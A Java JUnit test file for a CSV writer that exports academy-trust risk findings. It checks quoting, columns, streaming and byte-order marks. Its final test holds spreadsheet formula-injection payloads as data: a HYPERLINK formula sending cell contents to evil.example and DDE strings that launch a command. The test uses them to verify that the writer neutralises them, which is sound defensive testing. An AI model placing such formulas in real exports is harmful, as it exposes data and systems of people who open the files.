package org.matrisk.reports;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.matrisk.assessment.Assessment;
import org.matrisk.assessment.Finding;
import org.matrisk.assessment.Suppression;
import org.matrisk.output.AssessmentWriter;
import org.matrisk.output.ScanSummary;

class CsvWriterTest {
    static final String HEADER = "trustId,trustName,periodStart,periodEnd,asOf,trustRating,trustScore,ruleId,area,severity,title,message,"
            + "evidencePointers,evidenceValues,reference,parameters,suppressed,suppressionJustification,suppressionBy,suppressionExpires,"
            + "trustPoints,formatVersion,decidedRules,packRules,partialSections";

    static String csv(List<Assessment> as) {
        return new String(Examples.write("csv", as), StandardCharsets.UTF_8);
    }

    /** Read back with an independent RFC 4180 parser. */
    static List<CSVRecord> parse(String text) throws IOException {
        assertThat(text).as("a byte-order mark first").startsWith("\uFEFF");
        try (CSVParser p = CSVParser.parse(new StringReader(text.substring(1)), CSVFormat.RFC4180)) {
            return p.getRecords();
        }
    }

    static int expectedRows(List<Assessment> as) {
        return as.stream().mapToInt(a -> Math.max(1, a.findings().size())).sum();
    }

    @Test
    void headerThenOneRowPerFindingAndOneForATrustWithout() throws IOException {
        String text = csv(Examples.BOTH);
        assertThat(text).startsWith("\uFEFF" + HEADER + "\r\n");
        List<CSVRecord> records = parse(text);
        assertThat(Examples.RIVERSIDE.findings()).isEmpty();
        assertThat(Examples.NORTHGATE.findings()).hasSize(24);
        assertThat(records).hasSize(1 + expectedRows(Examples.BOTH)).hasSize(1 + 24 + 1);
        assertThat(records).allSatisfy(r -> assertThat(r.size()).isEqualTo(25));
        assertThat(String.join(",", records.get(0).values())).isEqualTo(HEADER);

        // the findings of Northgate, in the assessment's order, every cell as the model says
        List<Finding> fs = Examples.NORTHGATE.findings();
        for (int i = 0; i < fs.size(); i++) {
            CSVRecord r = records.get(1 + i);
            Finding f = fs.get(i);
            assertThat(r.get(0)).isEqualTo("10070002");
            assertThat(r.get(1)).isEqualTo("Northgate Academies Trust");
            assertThat(r.get(5)).isEqualTo("CRITICAL");
            assertThat(r.get(6)).isEqualTo("100");
            assertThat(r.get(7)).isEqualTo(f.ruleId());
            assertThat(r.get(9)).isEqualTo(f.severity().name());
            assertThat(r.get(11)).isEqualTo(f.message()); // messages hold commas (amounts): quoted and read back whole
            assertThat(r.get(16)).isEqualTo("false");
            assertThat(r.get(20)).isEqualTo(String.valueOf(Examples.NORTHGATE.points())); // uncapped: over 100
            assertThat(r.get(21)).isEqualTo("1");
            for (int c = 22; c < 25; c++) assertThat(r.get(c)).as("column %d (version 2 only)", c).isEmpty();
        }
        assertThat(Examples.NORTHGATE.points()).isGreaterThan(100);

        // Riverside: no finding, still one row, rule columns empty
        CSVRecord last = records.get(records.size() - 1);
        assertThat(last.get(0)).isEqualTo("10070001");
        assertThat(last.get(1)).isEqualTo("Riverside Learning Trust");
        assertThat(last.get(5)).isEqualTo("LOW");
        assertThat(last.get(6)).isEqualTo("0");
        for (int c = 7; c < 20; c++) assertThat(last.get(c)).as("column %d", c).isEmpty();
        assertThat(last.get(20)).isEqualTo("0");
        assertThat(last.get(21)).isEqualTo("1");
    }

    @Test
    void thePay05Row() throws IOException {
        List<CSVRecord> records = parse(csv(Examples.BOTH));
        List<CSVRecord> pay05 = records.stream().filter(r -> r.get(7).equals("PAY-05")).toList();
        assertThat(pay05).hasSize(1);
        CSVRecord r = pay05.get(0);
        assertThat(r.get(2)).isEqualTo("2023-09-01");
        assertThat(r.get(3)).isEqualTo("2024-08-31");
        assertThat(r.get(4)).isEqualTo(Examples.NORTHGATE.asOf().toString());
        assertThat(r.get(8)).isEqualTo("REMUNERATION");
        assertThat(r.get(9)).isEqualTo("CRITICAL");
        assertThat(r.get(10)).isEqualTo("Special severance payment made without the required prior approval");
        assertThat(r.get(11)).contains("£62,000.00");
        assertThat(r.get(12)).isEqualTo("/specialPayments/0");
        assertThat(r.get(13)).isEqualTo("amount=62000.00");
        assertThat(r.get(14)).startsWith("DfE: Guide to academy trust severance payments updated 5 October 2021 para 2 ESFA approval requirements")
                .endsWith(", https://www.gov.uk/government/publications/academies-severance-payments-form/guide-to-academies-severance-payments");
        assertThat(r.get(15)).isEqualTo("pay.severance.amountTrigger=50000.00 (DfE guide to academies severance payments)");
        assertThat(r.get(16)).isEqualTo("false");
    }

    @Test
    void severalEvidenceItemsAreJoinedInOrder() throws IOException {
        Finding aut03 = Examples.NORTHGATE.findings("AUT-03").get(0);
        assertThat(aut03.evidence()).hasSizeGreaterThan(1);
        CSVRecord r = parse(csv(Examples.BOTH)).stream().filter(x -> x.get(7).equals("AUT-03")).findFirst().orElseThrow();
        assertThat(r.get(12)).isEqualTo("/academies/0; /academies/0/ofsted/1");
        assertThat(r.get(13)).isEqualTo("level=FULL; grade=REQUIRES_IMPROVEMENT");
    }

    @Test
    void aSuppressionFillsItsColumns() throws IOException {
        Assessment a = Examples.withSuppression(Examples.NORTHGATE, "PAY-05",
                new Suppression("Approved by the ESFA, letter of 2 May 2024", "audit-committee", LocalDate.of(2025, 12, 31)));
        CSVRecord r = parse(csv(List.of(a))).get(1);
        assertThat(r.get(7)).isEqualTo("PAY-05");
        assertThat(r.get(16)).isEqualTo("true");
        assertThat(r.get(17)).isEqualTo("Approved by the ESFA, letter of 2 May 2024");
        assertThat(r.get(18)).isEqualTo("audit-committee");
        assertThat(r.get(19)).isEqualTo("2025-12-31");
    }

    @Test
    void quotingFollowsRfc4180() throws IOException {
        String name = "The \"Quoted\", Trust\r\nwith two lines";
        Assessment a = Reports.renamed(Examples.RIVERSIDE, "id,1", name);
        String text = csv(List.of(a));
        assertThat(text).isEqualTo("\uFEFF" + HEADER + "\r\n"
                + "\"id,1\",\"The \"\"Quoted\"\", Trust\r\nwith two lines\",2023-09-01,2024-08-31," + a.asOf() + ",LOW,0,,,,,,,,,,,,,,0,1,,,\r\n");
        List<CSVRecord> records = parse(text);
        assertThat(records.get(1).get(0)).isEqualTo("id,1");
        assertThat(records.get(1).get(1)).isEqualTo(name);
    }

    @Test
    void anEmptyScanStillHasItsHeader() {
        assertThat(csv(List.of())).isEqualTo("\uFEFF" + HEADER + "\r\n");
    }

    @Test
    void rowsAreWrittenAsAssessmentsArriveNotAtTheEnd() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        AssessmentWriter w = new CsvWriter.Provider().open(out, null);
        w.start();
        for (int i = 0; i < 20; i++) w.accept(Examples.NORTHGATE); // ~300 KB: more than the writer's buffer
        assertThat(out.size()).as("bytes on the stream before end()").isGreaterThan(64 * 1024);
        w.end(new ScanSummary(20, 20, 0));
        w.close();
        assertThat(parse(out.toString(StandardCharsets.UTF_8))).hasSize(1 + 20 * 24);
    }

    @Test
    void sameAssessmentsSameBytes() {
        assertThat(Examples.write("csv", Examples.BOTH)).isEqualTo(Examples.write("csv", Examples.BOTH));
    }

    @Test
    void theFileStartsWithTheUtf8ByteOrderMarkUnlessAskedNot() throws IOException {
        byte[] with = Examples.write("csv", List.of(Examples.RIVERSIDE));
        assertThat(java.util.Arrays.copyOf(with, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (CsvWriter w = new CsvWriter(out, false)) {
            w.start();
            w.accept(Examples.RIVERSIDE);
            w.end(new ScanSummary(1, 1, 0));
        }
        assertThat(out.toString(StandardCharsets.UTF_8)).startsWith(HEADER + "\r\n");
        assertThat(out.toByteArray().length).isEqualTo(with.length - 3);
    }

    @Test
    void hostileNamesAreNeutralisedAndNumbersStayNumbers() throws IOException {
        String[] hostile = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
                "\tTabbed Trust", "\rReturn Trust"};
        for (String name : hostile) {
            Assessment a = Reports.renamed(Examples.RIVERSIDE, "=1+1", name);
            String text = csv(List.of(a));
            CSVRecord row = parse(text).get(1);
            assertThat(row.get(0)).as("id").isEqualTo("'=1+1");
            assertThat(row.get(1)).as(name).isEqualTo("'" + name);
            // the raw field is quoted too, so no spreadsheet reads a formula
            assertThat(text).contains(",\"'" + name.substring(0, 1));
        }
        // numbers stay numbers: a negative amount or a score is written as it is
        assertThat(CsvWriter.neutralise("-240000.00")).isEqualTo("-240000.00");
        assertThat(CsvWriter.neutralise("-5")).isEqualTo("-5");
        assertThat(CsvWriter.neutralise("+12.5")).isEqualTo("+12.5");
        assertThat(CsvWriter.neutralise("-5 days")).isEqualTo("'-5 days");
        assertThat(CsvWriter.neutralise("Trust = fine")).isEqualTo("Trust = fine");
        CSVRecord northgate = parse(csv(List.of(Examples.NORTHGATE))).get(1);
        assertThat(northgate.get(6)).isEqualTo("100");
    }
}
